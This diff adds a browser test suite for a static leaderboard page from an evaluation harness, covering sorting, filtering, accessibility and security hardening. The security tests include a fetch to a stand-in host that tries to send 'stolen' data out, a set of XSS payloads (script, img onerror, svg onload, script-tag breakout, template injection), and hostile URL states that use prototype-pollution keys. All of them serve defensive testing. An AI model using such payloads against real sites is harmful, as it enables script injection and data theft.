@@ -1,0 +1,325 @@
+"""The built page in a real browser, opened from disk: what a reader does, and what one attacks."""
+
+import json
+
+import pytest
+
+from harness.leaderboard.build import PER_FILE, build
+from tests.leaderboard.made_up import add_row, make_board, rules, submission, texts_for
+
+MARKED = "product_review/user/mini/rag-s1"
+
+
+def names(browser):
+    return browser.texts("#table tbody td.name a")
+
+
+def values(browser, column):
+    """Numbers of a column as shown, without their intervals."""
+    keys = browser.run(
+        "return [...document.querySelectorAll('th button')].map(b => b.dataset.sort)"
+    )
+    cells = browser.run(
+        "return [...document.querySelectorAll('#table tbody tr')].map(r => r.cells[arguments[0]]"
+        ".firstChild.textContent)", keys.index(column),
+    )  # fmt: skip
+    return [None if cell == "–" else float(cell) for cell in cells]
+
+
+def click(browser, selector):
+    browser.run("document.querySelector(arguments[0]).click()", selector)
+
+
+def choose(browser, name, value):
+    browser.run(
+        "const e = document.getElementById(arguments[0]); e.value = arguments[1];"
+        "e.dispatchEvent(new Event('change'))", name, value,
+    )  # fmt: skip
+
+
+def wait_for(browser, selector):
+    from selenium.webdriver.support.ui import WebDriverWait
+
+    return WebDriverWait(browser.driver, 20).until(lambda _: browser.all(selector))
+
+
+def quiet(browser):
+    assert browser.requests() == []
+    assert browser.complaints() == []
+
+
+def test_it_opens_from_disk_and_asks_nobody(browser, page):
+    browser.open(page, f"row={MARKED}")
+    wait_for(browser, "#inside svg")
+    assert "Showing 1–50 of 60 rows, sorted by Following" in browser.find("#told").text
+    quiet(browser)
+
+
+def test_the_page_allows_itself_no_network(browser, page):
+    """Even a script that got in could send nothing: the policy is part of the page."""
+    browser.open(page)
+    sent = browser.driver.execute_async_script(
+        "const done = arguments[0]; fetch('https://example.invalid/?stolen')"
+        ".then(() => done('sent'), error => done(String(error)));"
+    )
+    assert "Failed to fetch" in sent
+    assert browser.requests() == []
+    assert any("Content Security Policy" in line for line in browser.complaints())
+    browser.run(
+        "document.body.insertAdjacentHTML('beforeend', '<img src=x onerror=\"window.bad=1\">')"
+    )
+    browser.run("const s = document.createElement('script'); s.textContent = 'window.bad=1';"
+                "document.body.append(s)")  # fmt: skip
+    assert browser.run("return window.bad") is None
+
+
+def test_sorting_by_score_text_and_back(browser, page):
+    browser.open(page)
+    for column in ("bleu", "following"):
+        click(browser, f"[data-sort={column}]")
+        found = values(browser, column)
+        ranked = [rank != "–" for rank in browser.texts("#table tbody tr td:first-child")]
+        assert ranked == sorted(ranked, reverse=True)  # unchecked rows stand below
+        inside = [value for value, has in zip(found, ranked, strict=True) if has]
+        assert inside == sorted(inside, reverse=True)
+    assert browser.find("[aria-sort]").get_attribute("aria-sort") == "descending"
+    click(browser, "[data-sort=following]")
+    assert browser.find("[aria-sort]").get_attribute("aria-sort") == "ascending"
+    click(browser, "[data-sort=training]")
+    assert values(browser, "training") == sorted(values(browser, "training"))
+    click(browser, "[data-sort=name]")
+    assert names(browser) == sorted(names(browser))
+    quiet(browser)
+
+
+def test_ranks_are_ranges_of_the_column_sorted_by(browser, page):
+    browser.open(page)
+    ranks = [each for each in browser.texts("#table tbody tr td:first-child") if each != "–"]
+    assert any("–" in rank for rank in ranks)
+    assert "by Following" in browser.find("#table thead").text
+    click(browser, "[data-sort=rougeL]")
+    assert "by ROUGE-L" in browser.find("#table thead").text
+
+
+def test_filters_search_and_an_empty_result(browser, page):
+    browser.open(page)
+    choose(browser, "status", "unchecked")
+    assert len(names(browser)) == 12
+    assert set(browser.texts("#table tbody td.status")) == {"unchecked"}
+    browser.find("#q").send_keys("COCONUT")
+    assert names(browser)
+    assert all("coconut" in name for name in names(browser))
+    browser.find("#q").send_keys(" nothing of the kind")
+    assert names(browser) == []
+    assert "Showing no row" in browser.find("#told").text
+    browser.open(page)
+    choose(browser, "task", "topic_writing")
+    assert "No board has this task" in browser.find("#board").text
+    choose(browser, "tier", "smollm2")
+    assert len(names(browser)) == 8
+    assert "texts may not be published: numbers only" in browser.find("#board").text
+    choose(browser, "task", "all")
+    choose(browser, "tier", "all")
+    assert "2 boards: scores and ranks compare only within a board" in browser.find("#board").text
+    quiet(browser)
+
+
+def test_columns_can_be_picked(browser, page):
+    browser.open(page)
+    assert not browser.all("[data-sort=memory]")
+    click(browser, "#picker summary")
+    click(browser, "#columns input[value=memory]")
+    click(browser, "#columns input[value=bleu]")
+    assert browser.all("[data-sort=memory]")
+    assert not browser.all("[data-sort=bleu]")
+
+
+def test_a_link_brings_the_state_back(browser, page):
+    browser.open(page)
+    choose(browser, "status", "verified")
+    browser.find("#q").send_keys("group 1")
+    click(browser, "[data-sort=meteor]")
+    click(browser, "[data-sort=meteor]")
+    click(browser, "#columns input[value=seed]")
+    address = browser.find("#link").get_attribute("href")
+    before = browser.texts("#table tr")
+    browser.open(page, address.partition("#")[2])
+    assert browser.texts("#table tr") == before
+    assert browser.find("#q").get_attribute("value") == "group 1"
+    assert browser.find("#status").get_attribute("value") == "verified"
+
+
+def test_pages(browser, page):
+    browser.open(page)
+    first = names(browser)
+    click(browser, "#next")
+    assert "Showing 51–60 of 60 rows" in browser.find("#told").text
+    assert not set(first) & set(names(browser))
+    assert not browser.find("#next").is_enabled()
+    click(browser, "#previous")
+    assert names(browser) == first
+
+
+def test_details_of_a_row(browser, page):
+    browser.open(page, f"row={MARKED}")
+    wait_for(browser, "#inside svg")
+    told = browser.find("#details").text
+    for shown in ("rag 1", "Group 1", "verified", "BLEU", "Made up.", "harness run --method rag"):
+        assert shown in told
+    assert len(browser.all("#inside .text")) == 3
+    assert "position" in browser.find("#inside svg").get_attribute("aria-label")
+    browser.open(page, "row=product_review/user/mini/nobody")
+    assert "nobody is not on this page" in browser.find("#details").text
+
+
+def test_rows_of_every_file_open(browser, page):
+    """Details lie in files of fifty; a row of the second one shows its own."""
+    assert PER_FILE == 50
+    for row in ("sft-s8", "flythinker-s59"):
+        browser.open(page, f"row=product_review/user/mini/{row}")
+        wait_for(browser, "#inside dl")
+        number = row.partition("-s")[2]
+        assert f"s{number}-0123456789ab, seed {number}" in browser.find("#details").text
+
+
+def test_a_page_without_its_files_says_so(browser, page, tmp_path):
+    alone = tmp_path / "index.html"
+    alone.write_bytes(page.read_bytes())
+    browser.open(alone, f"row={MARKED}")
+    wait_for(browser, "#inside .notice")
+    assert "was not found beside this page" in browser.find("#inside .notice").text
+
+
+def test_the_keyboard_is_enough(browser, page):
+    from selenium.webdriver.common.keys import Keys
+
+    browser.open(page)
+    browser.press("/")
+    assert browser.run("return document.activeElement.id") == "q"
+    browser.press(*"sft", Keys.TAB, Keys.TAB, Keys.TAB, Keys.TAB)
+    browser.run("document.querySelector('[data-sort=bleu]').focus()")
+    browser.press(Keys.ENTER)
+    assert browser.run("return document.activeElement.dataset.sort") == "bleu"
+    assert "sorted by BLEU" in browser.find("#told").text
+    browser.run("document.querySelector('a[data-row]').focus()")
+    browser.press(Keys.ARROW_DOWN)
+    second = names(browser)[1]
+    assert browser.run("return document.activeElement.textContent") == second
+    browser.press(Keys.ENTER)
+    wait_for(browser, "#inside dl")
+    assert browser.find("#title").text == second
+    assert browser.run("return document.activeElement.id") == "close"
+    browser.press(Keys.ESCAPE)
+    assert not browser.run("return document.getElementById('details').open")
+    assert browser.run("return document.activeElement.textContent") == second
+    quiet(browser)
+
+
+@pytest.mark.parametrize("theme", ["light", "dark"])
+@pytest.mark.parametrize("width", [1280, 390])
+def test_nothing_serious_for_axe_and_no_panning(browser, page, theme, width):
+    browser.resize(width)
+    browser.theme(theme)
+    browser.open(page, "q=1")
+    assert browser.violations() == []
+    assert browser.overflow() <= 0
+    browser.open(page, f"q=1&row={MARKED}")
+    wait_for(browser, "#inside svg")
+    assert browser.violations() == []
+    assert browser.overflow() <= 0
+    quiet(browser)
+
+
+def test_a_phone_shows_rank_name_and_score_without_panning(browser, page):
+    browser.resize(390, 844)
+    browser.open(page)
+    heads = browser.run(
+        "return [...document.querySelectorAll('th button')].map(b => b.dataset.sort)"
+    )
+    assert heads == ["rank", "name", "following"]
+    region = browser.find("#region")
+    assert browser.run("return arguments[0].scrollWidth - arguments[0].clientWidth", region) <= 0
+
+
+HOSTILE = {
+    "script": "<script>window.bad=1</script>",
+    "image": '"><img src=x onerror="window.bad=1">',
+    "svg": "<svg/onload=window.bad=1>",
+    "end of data": "</script><script>window.bad=1</script>",
+    "template": "{{7*7}}${window.bad=1}`;window.bad=1;//",
+}
+
+
+@pytest.fixture(scope="module")
+def hostile(tmp_path_factory):
+    """A page whose rows, texts, notes and settings all try something."""
+    root = tmp_path_factory.mktemp("hostile")
+    board = make_board(root, rules())
+    for number, attack in enumerate(HOSTILE.values()):
+        row = submission(rules(), number, name=attack, by=attack, note=attack + "\u202e\u2066")
+        row["link"] = "https://a.example/" + attack.replace(" ", "").replace("\u202e", "")
+        row["run"]["command"] = row["run"]["settings"]["x"] = attack
+        row["backbone"]["name"] = attack
+        texts = [
+            {**text, "output": f"{attack} \u202eturned\u202c around"} for text in texts_for(row)
+        ]
+        add_row(board, row, texts, status="verified", notes=(attack,))
+    out = tmp_path_factory.mktemp("hostile_page")
+    assert build(root, out).left_out == ()
+    return out / "index.html"
+
+
+@pytest.mark.parametrize("attack", HOSTILE)
+def test_hostile_rows_are_shown_as_text(browser, hostile, attack):
+    number = list(HOSTILE).index(attack)
+    method = ("nonpers", "rag", "sft", "cot", "coconut")[number]
+    cols = "rank.name.status.board.method.backbone.following"
+    browser.open(hostile, f"cols={cols}&row=product_review/user/mini/{method}-s{number}")
+    wait_for(browser, "#inside .facts")
+    assert browser.run("return window.bad") is None
+    assert HOSTILE[attack] in browser.texts("#table tbody td.name a")
+    inside = browser.find("#details").get_attribute("textContent")
+    assert HOSTILE[attack] in inside
+    assert "⟨U+202E right-to-left override⟩turned" in inside
+    assert not {"\u202e", "\u2066"} & set(browser.run("return document.body.textContent"))
+    assert browser.all("#details img, #details script, #table img, #table script") == []
+    quiet(browser)
+
+
+@pytest.mark.parametrize(
+    "state",
+    [
+        "row=%3Cimg%20src=x%20onerror=window.bad=1%3E",
+        "q=%22%3E%3Cscript%3Ewindow.bad=1%3C/script%3E&task=%3Cb%3E",
+        "sort=constructor&cols=__proto__.toString.constructor",
+        "sort=__proto__&dir=x&page=-7&status=toString",
+        "page=1e999&cols=",
+        "%E0%A4%A&&&=&row",
+    ],
+)
+def test_a_hostile_address_is_only_text(browser, page, state):
+    browser.open(page, state)
+    assert browser.run("return window.bad") is None
+    assert browser.find("#table thead tr")
+    assert "sorted by" in browser.find("#told").text
+    quiet(browser)
+
+
+def test_an_example_on_mini_stands_beside_its_reference(browser, boards, tmp_path, capsys):
+    from harness.commands.leaderboard import verify_command
+
+    assert verify_command([], boards / "mini", None, None, None, False) == 0
+    capsys.readouterr()
+    row = next((boards / "mini").rglob("submission.json")).parent
+    out = tmp_path / "page"
+    assert build(boards / "mini", out).rows == 1
+    browser.open(out / "index.html", f"row=product_review/user/mini/{row.name}")
+    wait_for(browser, "#inside .text")
+    told = browser.find("#details").get_attribute("textContent")
+    lines = (row / "predictions.jsonl").read_text().splitlines()
+    texts = {text["id"]: text["output"] for text in map(json.loads, lines)}
+    shown = browser.texts("#inside h4 + .text") and [key for key in texts if key in told]
+    assert len(shown) == 3
+    assert all(texts[key] in told for key in shown)
+    assert told.count("reference") >= 3
+    assert "asked for" in told
